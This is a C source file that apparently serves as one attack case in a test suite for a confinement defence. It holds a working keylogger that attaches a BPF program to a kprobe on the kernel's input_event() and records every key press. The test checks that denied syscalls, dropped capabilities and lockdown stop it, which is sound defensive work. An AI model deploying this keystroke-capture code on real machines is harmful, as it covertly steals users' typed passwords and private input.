// SPDX-License-Identifier: Apache-2.0
/*
 * A BPF program on a kprobe of the kernel's input_event(), which every key passes.
 *
 * attack: bpf_kprobe
 * class: process
 * when: before
 * judge: keys
 * defence: confinement
 * why: the kernel's grab does not stop it; bpf(2) and perf_event_open(2) are denied, CAP_BPF
 *      and CAP_PERFMON gone, and lockdown refuses kprobes
 */
#include <errno.h>
#include <linux/input.h>
#include <linux/perf_event.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/syscall.h>
#include <unistd.h>

#include "bpf.h"
#include "file.h"
#include "report.h"

#define PMU "/sys/bus/event_source/devices/kprobe/type"

/* struct pt_regs of x86-64: input_event(rdi dev, rsi type, rdx code, rcx value) */
enum {
	PT_CX	= 88,
	PT_DX	= 96,
	PT_SI	= 104,
};

static int load(int queue)
{
	const struct bpf_insn insns[] = {
		BPF_LOAD(BPF_DW, BPF_REG_6, BPF_REG_1, PT_SI),
		BPF_LOAD(BPF_DW, BPF_REG_7, BPF_REG_1, PT_CX),
		BPF_LOAD(BPF_DW, BPF_REG_8, BPF_REG_1, PT_DX),
		BPF_SKIP32(BPF_JNE, BPF_REG_6, EV_KEY, 9),
		BPF_SKIP32(BPF_JNE, BPF_REG_7, 1, 8),
		BPF_STORE(BPF_W, BPF_REG_10, BPF_REG_8, -8),
		BPF_STORE(BPF_W, BPF_REG_10, BPF_REG_7, -4),
		BPF_SET_MAP(BPF_REG_1, queue),
		BPF_COPY(BPF_REG_2, BPF_REG_10),
		BPF_PLUS(BPF_REG_2, -8),
		BPF_SET(BPF_REG_3, BPF_ANY),
		BPF_HELPER(BPF_FUNC_map_push_elem),
		BPF_SET(BPF_REG_0, 0),
		BPF_RETURN(),
	};
	const struct bpf_program program = {
		.type = BPF_PROG_TYPE_KPROBE,
		.insns = insns,
		.count = sizeof(insns) / sizeof(*insns),
	};

	return bpf_load(&program);
}

static int attach(int program)
{
	struct perf_event_attr attr = {
		.size = sizeof(attr),
		.config1 = (uintptr_t)"input_event",
	};
	char type[16];
	int fd;

	if (file_read(PMU, type, sizeof(type)) < 0)
		return -ENOENT;
	attr.type = (unsigned int)atoi(type);
	fd = (int)syscall(SYS_perf_event_open, &attr, -1, 0, -1, PERF_FLAG_FD_CLOEXEC);
	if (fd < 0 || ioctl(fd, PERF_EVENT_IOC_SET_BPF, program) ||
	    ioctl(fd, PERF_EVENT_IOC_ENABLE, 0))
		return -errno;
	return fd;
}

int main(void)
{
	int queue, ret;

	attack_init();
	queue = bpf_queue_new(8);
	ret = queue < 0 ? queue : load(queue);
	if (ret >= 0)
		ret = attach(ret);
	attack_ready();
	if (ret < 0)
		attack_failed("no program on a kprobe: %s", strerror(-ret));
	bpf_log_keys(queue);
}
